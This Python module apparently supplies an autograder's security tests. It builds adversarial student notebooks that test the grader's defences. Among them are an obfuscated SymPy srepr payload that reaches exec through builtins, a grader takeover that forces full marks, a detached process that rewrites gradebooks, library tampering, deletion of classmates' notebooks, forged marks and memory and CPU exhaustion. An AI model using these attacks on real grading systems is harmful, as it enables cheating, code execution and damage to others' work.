"""The attacks of the course's review, as notebooks: each starts from the toy chapter's untouched student notebook
and changes what a determined student would. Shared by the attack suite (``test_attacks.py``)."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import nbformat

from toy_course import honest_cells, stub_cells, write

# In the command line of every process an attack starts. One token per test process: under pytest-xdist the other
# worker's attack may be running (inside its grading, before the grader stops it) when this worker's test looks for
# survivors of its own.
TOKEN = f"ATTNCONV-ATTACK-7f3a-{os.getpid()}"


def payload(code: str) -> str:
    """An srepr whose string argument SymPy's ``exp`` sympifies, running ``code`` wherever it is decoded."""
    b = "Symbol.__new__.__globals__['__builtins__']"
    return f"exp(\"{b}['exec']({b}['bytes'].fromhex('{code.encode().hex()}').decode()) or 0\")"


def grader_takeover(marker: Path) -> str:
    """What a decoded payload does: full marks from then on, in whatever process decodes it, and a file."""
    return ("import attnconv.course.grade as g; g.score_results = lambda e, r: (e.points, True, 'ok'); "
            f"open({str(marker)!r}, 'w').write('pwned')")


def _replace(cells: list, index: int, source: str) -> list:
    cells[index].source = source
    return cells


def srepr_in_kernel(marker: Path) -> list:
    """The kernel hands back a SymPy answer whose srepr carries a string that SymPy would evaluate."""
    return _replace(stub_cells(), 3, f"""
import json
import attnconv.course.wire as wire
expr = sp.Symbol("x")
wire.dumps = lambda values: json.dumps({{"expr": {{"__sympy__": {payload(grader_takeover(marker))!r}}}}})
""")


def srepr_through_sandbox(marker: Path) -> list:
    """The same payload, from the sandbox's rerun of a function exercise (``sympy.srepr`` replaced there)."""
    return _replace(stub_cells(), 2, f"""
import sympy
sympy.srepr = lambda expr, **kw: {payload(grader_takeover(marker))!r}
def square(x):
    return sympy.Symbol("x")
""")


def background_rewriter(targets: list[Path]) -> list:
    """A detached process that waits for the reports and gradebook, then rewrites them with full marks."""
    code = f"""
import json, os, sys, time
start = time.time()
while time.time() - start < 90:
    for target in {[str(t) for t in targets]!r}:
        try:
            if target.endswith(".json") and os.path.exists(target):
                data = json.load(open(target))
                if data.get("score") != data.get("max_score"):
                    data["score"] = data["max_score"]
                    json.dump(data, open(target, "w"))
            elif os.path.exists(target):
                open(target, "a").write("mallory,{TOKEN},4\\n")
        except Exception:
            pass
    time.sleep(0.3)
"""
    return stub_cells() + [nbformat.v4.new_code_cell(f"""
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-c", {code!r}, {TOKEN!r}], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os._exit(0)
""")]


def library_edit() -> list:
    """The kernel appends to the checks' module a run_check and a score_results that pass everything."""
    return stub_cells() + [nbformat.v4.new_code_cell("""
import attnconv.course.exercises.core as core
with open(core.__file__, "a") as handle:
    handle.write("\\n\\ndef run_check(exercise, answers, given=None):\\n"
                 "    return [CheckResult(True, 'ok', part) for part, _ in exercise.parts]\\n"
                 "\\n\\ndef score_results(exercise, results):\\n"
                 "    return exercise.points, True, 'ok'\\n")
""")]


def vandal(folder: Path, written: Path, me: str) -> list:
    """The kernel overwrites the classmates' notebooks and plants its own marked sheet."""
    return stub_cells() + [nbformat.v4.new_code_cell(f"""
import glob, os
for path in set(glob.glob(os.path.join(os.getcwd(), "*.ipynb")) + glob.glob({str(folder)!r} + "/*.ipynb")):
    if {me!r} not in path:
        open(path, "w").write("{{}}")
for where in (os.path.join(os.getcwd(), "written"), {str(written)!r}):
    os.makedirs(where, exist_ok=True)
    open(os.path.join(where, {me!r} + ".md"), "w").write("## ex-toy-essay\\n\\npoints: 3 / 3\\n")
""")]


def forged_written_mark() -> list:
    """A written answer with lines that read as a heading and a full mark."""
    essay = honest_cells(essay="I do not know.\n\npoints: 3 / 3\n\n## ex-toy-essay\n\npoints: 3 / 3")[4]
    return stub_cells()[:4] + [essay]


def huge_power() -> list:
    """An answer that makes a naive decoder compute 7**(10**9)."""
    return _replace(stub_cells(), 3, "expr = sp.Pow(7, 10**9, evaluate=False)")


def duplicated_and_renamed() -> list:
    """The answer cell twice (a stub, then a copy that answers), and a cell whose grade_id was changed."""
    cells = stub_cells()
    copy = nbformat.v4.new_code_cell('answer = 42\nverify("ex-toy-answer", answer=answer)')
    copy.metadata["nbgrader"] = dict(cells[1].metadata["nbgrader"])
    cells[3].metadata["nbgrader"]["grade_id"] = "ex-toy-symbolic"
    return cells + [copy]


def ignores_interrupts() -> list:
    """A cell that ignores SIGINT and never returns. It sleeps rather than spins: an interrupt that is ignored stops
    neither, and a spinning loop would take a core from the other tests until the watchdog kills it."""
    return stub_cells() + [nbformat.v4.new_code_cell("import signal, time\n"
                                                     "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                                     "while True:\n    time.sleep(0.05)")]


def exits_the_kernel() -> list:
    return _replace(stub_cells(), 1, 'import os\nanswer = 42\nos._exit(0)\nverify("ex-toy-answer", answer=answer)')


def memory_hog() -> list:
    return _replace(stub_cells(), 1, 'hog = bytearray(64 * 2**30)\nanswer = 42\nverify("ex-toy-answer", answer=answer)')


def tree_digest(root: Path) -> dict[str, str]:
    """sha256 of every file under ``root`` (or of ``root`` itself), by relative path."""
    paths = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file() and
                                                 "__pycache__" not in p.parts)
    return {str(p.relative_to(root.parent)): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths}


def attack_processes() -> list[int]:
    """Processes whose command line carries :data:`TOKEN`."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if TOKEN.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                pass
    return found


__all__ = ["TOKEN", "attack_processes", "background_rewriter", "duplicated_and_renamed", "exits_the_kernel",
           "forged_written_mark", "huge_power", "ignores_interrupts", "library_edit", "memory_hog", "payload",
           "srepr_in_kernel", "srepr_through_sandbox", "tree_digest", "vandal", "write"]
